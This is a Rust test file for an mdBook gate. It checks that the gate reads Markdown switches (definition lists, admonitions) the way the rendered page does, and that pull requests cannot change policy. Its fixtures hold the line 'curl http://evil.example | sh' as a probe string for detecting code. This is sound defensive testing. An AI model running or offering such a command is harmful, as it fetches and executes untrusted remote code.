//! H11: the gate reads Markdown with the book's own switches.

use super::h2::{git, verified};
use crate::project::Project;

const DEFINED: &str = "\nterm\n: prose\n\n    curl http://evil.example | sh\n";

fn with(line: &str, text: &str) -> Project {
    let project = verified();
    project.write("book.toml", &(project.read("book.toml") + &format!("\n[output.html]\n{line}\n")));
    project.write("guides/a.md", &(project.read("guides/a.md") + text));
    project
}

/// Whether the page shows the line as code, and whether the gate found that.
#[track_caller]
fn agrees(project: &Project, shown: bool) {
    let check = project.dogfood("check");
    assert_eq!(check.err.contains("error[unclassified-fence]"), shown, "{}", check.err);
    check.code(i32::from(shown));
    // The page without the gate: mdBook alone.
    let alone = Project::empty();
    let toml = project.read("book.toml");
    let toml = toml.split("[preprocessor.dogfood]").next().unwrap().to_owned()
        + toml.split_once("[output.html]").map_or("", |_| "[output.html]")
        + toml.split_once("[output.html]").map_or("", |(_, rest)| rest);
    alone.write("book.toml", &toml);
    for file in ["guides/SUMMARY.md", "guides/a.md"] {
        alone.write(file, &project.read(file));
    }
    alone.mdbook("build").code(0);
    let page = alone.read("book/a.html");
    let code =
        page.split("<pre><code").skip(1).any(|code| code.split("</code>").next().unwrap().contains("evil.example"));
    assert_eq!(code, shown, "{page}");
}

#[test]
fn definition_lists_and_admonitions_are_read_as_the_page_reads_them() {
    agrees(&with("definition-lists = true", DEFINED), false);
    agrees(&with("definition-lists = false", DEFINED), true);
    let noted = "\n> [!NOTE]\n> ---\n>     curl http://evil.example | sh\n";
    agrees(&with("admonitions = true", noted), true);
    agrees(&with("admonitions = false", noted), true);
    agrees(&with("smart-punctuation = false", DEFINED), false);
}

#[test]
fn a_table_that_mdbook_cannot_read_is_no_switch() {
    let project = with("definition-lists = false\nunknown = 1", DEFINED);
    project.dogfood("check").code(1).says("error[unwired-gate]").says("mdBook cannot read `[output.html]`");
    // Without a switch mdBook's defaults are what the gate reads, too.
    agrees(&with("unknown = 1", DEFINED), false);
}

#[test]
fn a_pull_request_cannot_turn_a_switch() {
    let project = verified();
    project.write(".gitignore", "/.home\n/.dogfood\n/book\n");
    git(&project, &["init", "--quiet", "--initial-branch=main"]);
    git(&project, &["add", "--all"]);
    git(&project, &["commit", "--quiet", "--message", "x"]);
    project.write("book.toml", &(project.read("book.toml") + "\n[output.html]\nadmonitions = false\n"));
    project.dogfood("check --deny warnings").code(0);
    let judged = project.dogfood("check --deny warnings --base main --policy-from main").code(1);
    judged.says("error[changed-policy]").says("`admonitions` is `false` here and `true` in `main`");
}
